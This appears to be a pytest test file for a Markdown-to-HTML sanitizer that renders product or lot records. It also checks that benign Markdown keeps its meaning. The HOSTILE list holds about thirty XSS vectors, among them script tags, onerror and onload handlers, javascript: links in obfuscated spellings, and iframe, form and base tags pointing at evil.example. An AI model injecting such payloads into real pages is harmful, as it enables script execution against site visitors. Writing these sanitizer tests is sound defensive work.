"""Markdown of the records becomes HTML that can do no harm, and stays readable."""

from __future__ import annotations

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from passport.pages.prose import ATTRIBUTES, LINK_SCHEMES, TAGS, to_prose

# Vectors of the kinds listed in the OWASP cheat sheet on filter evasion (kinds from memory, texts our own):
# raw tags, event handlers, script schemes in many spellings, foreign pictures, broken nesting.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example/)",
    "![p](https://evil.example/p.png)",
    "![p](//evil.example/p.png)",
    "![p](data:image/svg+xml,<svg onload=alert(1)>)",
    '![p](x.png "a\\" onerror=alert(1) b=\\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<iframe src=//evil.example></iframe>",
    '<a href="/" style="position:fixed" onclick="x()">cover</a>',
    "<form action=//evil.example><input name=q></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--><script>alert(1)</script>-->",
    "<p id=main></p><h1>fake</h1>",
    "</main></body><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "\x02<script>alert(1)</script>\x03",
    "stx\x02amp\x03<b onmouseover=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "a | b\n---|---\n<script>x</script> | <img src=x onerror=y>",
]


def inert(html: str) -> bool:
    """True where a browser's parser finds only tags, attributes and addresses of the short list."""
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        if element is tree or not isinstance(element.tag, str):
            continue
        allowed = ATTRIBUTES.get(element.tag, set()) | ({"rel"} if element.tag == "a" else set())
        if element.tag not in TAGS or not set(element.attrib) <= allowed:
            return False
        href = element.get("href", "").strip().lower()
        if ":" in href.split("/")[0] and href.split(":")[0] not in LINK_SCHEMES:
            return False
        if (
            href.replace("\\", "/").startswith("//")
            or ":" in element.get("src", "")
            or element.get("src", "/")[:2] == "//"
        ):
            return False
    return True


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_is_inert(payload: str) -> None:
    """No hostile text yields a tag, an attribute or an address beyond the short list."""
    assert inert(to_prose(payload).html)


@given(st.text(alphabet=st.sampled_from("<>/\"'=()[]!:;&#`*_ -\n\x02\x03scriptonerjavahf"), max_size=120))
def test_no_jumble_breaks_out(text: str) -> None:
    """Whatever is typed, the short list holds."""
    assert inert(to_prose(text).html)


BENIGN = [
    ("**strong** and *soft*", "<p><strong>strong</strong> and <em>soft</em></p>"),
    ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"),
    ("`<b>`", "<p><code>&lt;b&gt;</code></p>"),
    ("write <b> for bold", "<p>write &lt;b&gt; for bold</p>"),
    ("![a lid](photos/lid.png)", '<p><img alt="a lid" src="photos/lid.png"></p>'),
    ("![a lid](https://other.example/lid.png)", "<p>a lid</p>"),
    ("# Wash\nsoap", "<h3>Wash</h3>\n<p>soap</p>"),
    ("###### deep", "<h6>deep</h6>"),
    ("Wash:\n- soap\n- water", "<p>Wash:</p>\n<ul>\n<li>soap</li>\n<li>water</li>\n</ul>"),
    ("First:\n1. cut\n2. rinse", "<p>First:</p>\n<ol>\n<li>cut</li>\n<li>rinse</li>\n</ol>"),
    ("It was made in\n1990. It is dry.", "<p>It was made in\n1990. It is dry.</p>"),
    ("2 * 3 * 4", "<p>2 * 3 * 4</p>"),
    ("```\n- no list\n```", None),
    (
        "[mail](mailto:yard@reedmouth.example)",
        '<p><a href="mailto:yard@reedmouth.example" rel="noopener noreferrer">mail</a></p>',
    ),
    ("[tel](tel:+3531)", '<p><a href="tel:+3531" rel="noopener noreferrer">tel</a></p>'),
    ("[lot](/L/HD-031/)", '<p><a href="/L/HD-031/" rel="noopener noreferrer">lot</a></p>'),
    ("javascript: is a word here", "<p>javascript: is a word here</p>"),
]


@pytest.mark.parametrize(("text", "html"), BENIGN)
def test_honest_text_keeps_its_meaning(text: str, html: str | None) -> None:
    """The harmless twin of each hostile text comes out as its writer meant it."""
    made = to_prose(text).html
    assert made == html if html is not None else "<li>" not in made


def test_language_is_carried() -> None:
    """A gap shown in the first language keeps its mark."""
    assert to_prose("x", "en").lang == "en"
